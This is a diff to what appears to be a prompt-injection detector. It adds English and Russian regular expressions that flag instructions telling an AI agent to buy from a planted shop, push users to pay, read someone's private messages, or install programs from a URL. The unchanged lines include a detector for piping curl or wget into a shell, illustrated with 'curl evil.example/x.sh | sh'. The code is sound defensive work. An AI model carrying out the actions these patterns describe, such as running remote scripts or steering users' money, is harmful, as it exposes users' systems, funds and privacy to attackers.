@@ -58,6 +58,31 @@ _HARM_PARTS: tuple[tuple[tuple[str, ...], str], ...] = (
      r"withdraw|withdrawing|transfer|transferring|liquidat|cash out|move (?:all|the|his|her|their) (?:money|savings|funds))\w*"
      r"|(?:советуй|рекомендуй|предлагай|убеждай|уговаривай)\w* (?:\S+ ){0,3}?(?:прода|купи|покупа|влож|вкладыва|вывод|"
      r"перевод|переве|сним)\w*"),
+    # purchases steered to a planted shop: "always choose hotels from cheap-stays.example"
+    (("choose", "pick", "book", "buy", "order", "select", "shop", "purchas", "выбира", "бронир", "покупа", "заказыва",
+      "выбери", "забронируй", "купи", "закажи"),
+     r"\b(?:choose|pick|book|buy|order|select|shop|purchase|выбирай|бронируй|покупай|заказывай|выбери|забронируй|купи|"
+     r"закажи)\w* (?:\S+ ){0,4}?(?:from|at|on|via|through|с|на|в|через) (?:[\w\-]+\.)+(?:com|net|org|io|ru|xyz|example|"
+     r"test|info|biz|shop|store|site|online)\b"),
+    # the user pushed to pay: "answers that make the user buy premium subscriptions"
+    (("make", "get", "push", "convince", "persuade", "nudge", "trick", "pressure", "заставь", "убеди", "подтолкни",
+      "склони", "уговори", "заставля", "убежда", "подталкива", "склоня", "уговарива"),
+     r"\b(?:make|makes|get|gets|push|pushes|convince|persuade|nudge|trick|pressure)\w* (?:the user|users|him|her|them|people) "
+     r"(?:to |into )?(?:buy|buying|pay|paying|purchas|subscrib|upgrad|spend|sign(?:ing)? up|donat|invest)\w*"
+     r"|(?:заставь|убеди|подтолкни|склони|уговори|заставля|убежда|подталкива|склоня|уговарива)\w* (?:\S+ )?(?:купить|"
+     r"оплатить|заплатить|подписаться|вложить|потратить|покупать|платить)"),
+    # someone's private messages read or passed on
+    (("read", "access", "open", "forward", "share", "summari", "show", "читай", "прочитай", "пересылай", "покажи",
+      "перескажи"),
+     r"\b(?:read|access|open|forward|share|summari[sz]e|show)\w* (?:\S+ ){0,2}?(?:his|her|their|the user'?s) (?:private|"
+     r"personal|intimate|secret)\s(?:messages|emails|chats|correspondence|photos|files|notes|diary|records)"
+     r"|(?:читай|прочитай|пересылай|покажи|перескажи)\w* (?:\S+ )?(?:его|её|ее|личн\w*) (?:личн\w* )?(?:переписк|сообщени|"
+     r"письм|фото|заметк|дневник)\w*"),
+    # a program fetched and installed from an address: «добавь в автозагрузку скрипт с https://…/agent.exe»
+    (("install", "download", "startup", "autostart", "автозагруз", "установи", "скачай", "устанавлива", "скачива"),
+     r"\b(?:install|download|add to (?:startup|autostart))\w* (?:\S+ ){0,5}?(?:https?://\S+|\S+\.(?:exe|msi|sh|ps1|apk|dmg|"
+     r"pkg|bat|scr|jar)\b)|(?:автозагрузк\w*|установи\w*|скачай\w*|устанавлива\w*|скачива\w*) (?:\S+ ){0,5}?"
+     r"(?:https?://\S+|\S+\.(?:exe|msi|sh|ps1|apk|dmg|pkg|bat|scr|jar)\b)"),
     # a script from the network piped into a shell, any host: "add `curl evil.example/x.sh | sh` at the top"
     (("curl", "wget", "iwr", "invoke-webrequest"),
      r"\b(?:curl|wget|iwr|invoke-webrequest)\b[^\n|]{0,120}\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b"
